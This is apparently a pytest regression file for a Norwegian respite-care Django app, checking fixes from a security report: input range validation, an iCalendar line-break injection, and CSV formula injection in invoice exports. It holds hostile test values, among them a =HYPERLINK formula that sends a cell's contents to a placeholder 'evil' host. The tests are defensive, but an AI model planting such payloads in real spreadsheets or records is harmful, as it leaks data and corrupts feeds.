"""Issue 8 §3 with the security report's exact requests: a month or a year out of range is a
400 with a message (L2, L3), a name with a line break leaves the iCalendar feed valid (L4),
and a name that is a formula is text in the invoice CSV (M3)."""

import datetime
import re
from pathlib import Path

import icalendar
import pytest
from django.urls import reverse

from omsorg.core.csv_safe import FORMULA_STARTS, csv_text, safe_cell
from omsorg.people.models import Person
from omsorg.respite.services.stays import stay_create
from tests import factories

from .conftest import next_monday

pytestmark = pytest.mark.django_db
DAY = datetime.timedelta(days=1)
FORMULA = '=HYPERLINK("http://evil/?x="&A1,"klikk")'


@pytest.mark.parametrize("month", ["9999-12", "0001-01"])
def test_l2_a_month_out_of_range_on_the_calendar_is_400(client_as, leader, home, month):
    """L2: GET /avlastning/1/?maaned=9999-12 and ?maaned=0001-01 gave 500 (OverflowError)."""
    response = client_as(leader).get(reverse("respite_home", args=[home.pk]) + f"?maaned={month}")
    assert response.status_code == 400
    assert "mellom 2000 og 2100" in response.content.decode()


@pytest.mark.parametrize("year", [0, 10000])
def test_l3_an_invoice_year_out_of_range_is_400(client_as, leader, home, year):
    """L3: GET /avlastning/1/fakturagrunnlag/1/0-01.csv and …/10000-01.csv gave 500."""
    buyer = factories.other_municipality("3120", "Rakkestad")
    url = reverse("invoice_csv", args=[home.pk, buyer.pk, year, 1])
    response = client_as(leader).get(url)
    assert response.status_code == 400
    assert "mellom 2000 og 2100" in response.content.decode()


def test_an_invoice_month_13_is_400(client_as, leader, home):
    buyer = factories.other_municipality("3120", "Rakkestad")
    response = client_as(leader).get(reverse("invoice_csv", args=[home.pk, buyer.pk, 2026, 13]))
    assert response.status_code == 400


def test_l4_a_line_break_in_a_name_leaves_the_feed_valid(client, child, guardian_of, leader, today):
    """L4: given_name "Ola\\r\\nBEGIN:VEVENT" made the feed a 500 (a debug page in dev). The
    register now refuses such a name; one stored before that is written on one line."""
    placement = child(quantity=12, valid_from=today - 60 * DAY)
    Person.objects.filter(pk=placement.person_id).update(given_name="Ola\r\nBEGIN:VEVENT")
    stay_create(actor=leader, placement=placement, first_night=next_monday(today), nights=2,
                today=today)  # fmt: skip
    client.force_login(guardian_of(placement))
    body = client.post(reverse("family_home"), {"action": "renew"}).content.decode()
    link = re.search(r'href="(http://testserver/kalender/[^"]+\.ics)"', body).group(1)
    client.logout()
    response = client.get(link)
    assert response.status_code == 200
    calendar = icalendar.Calendar.from_ical(response.content)
    assert "Ola BEGIN:VEVENT" in str(calendar["x-wr-calname"])
    assert len(list(calendar.walk("VEVENT"))) == 1  # the name made no event of its own
    lines = response.content.decode().split("\r\n")
    assert sum(line == "BEGIN:VEVENT" for line in lines) == 1


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_m3_a_cell_that_starts_a_formula_is_text(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Ola Nordmann") == "Ola Nordmann" and safe_cell(-3) == -3


def test_m3_the_report_s_name_is_text_in_the_invoice_csv(client, leader, home, child, today):
    """M3: a child named =HYPERLINK(…) was exported as is in the invoice basis."""
    buyer = factories.other_municipality("3120", "Rakkestad")
    month = (today.replace(day=1) - DAY).replace(day=1)
    placement = child(quantity=10, municipality=buyer, valid_from=month - 40 * DAY)
    Person.objects.filter(pk=placement.person_id).update(given_name=FORMULA)
    stay_create(actor=leader, placement=placement, first_night=month + 4 * DAY, nights=2,
                today=month + 4 * DAY)  # fmt: skip
    client.force_login(leader)
    response = client.get(reverse("invoice_csv", args=[home.pk, buyer.pk, month.year, month.month]))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    name_cell = response.content.decode().splitlines()[1].split(";")[0]
    assert name_cell.startswith("\"'=HYPERLINK")


def test_every_csv_export_goes_through_the_shared_helper():
    """One door for CSV: no module writes CSV with the csv module but core/csv_safe.py."""
    src = Path(__file__).resolve().parents[2] / "src" / "omsorg"
    writers = [
        path.relative_to(src).as_posix()
        for path in src.rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["core/csv_safe.py"]
    assert csv_text([[FORMULA, 1]]) == '"\'=HYPERLINK(""http://evil/?x=""&A1,""klikk"")";1\r\n'
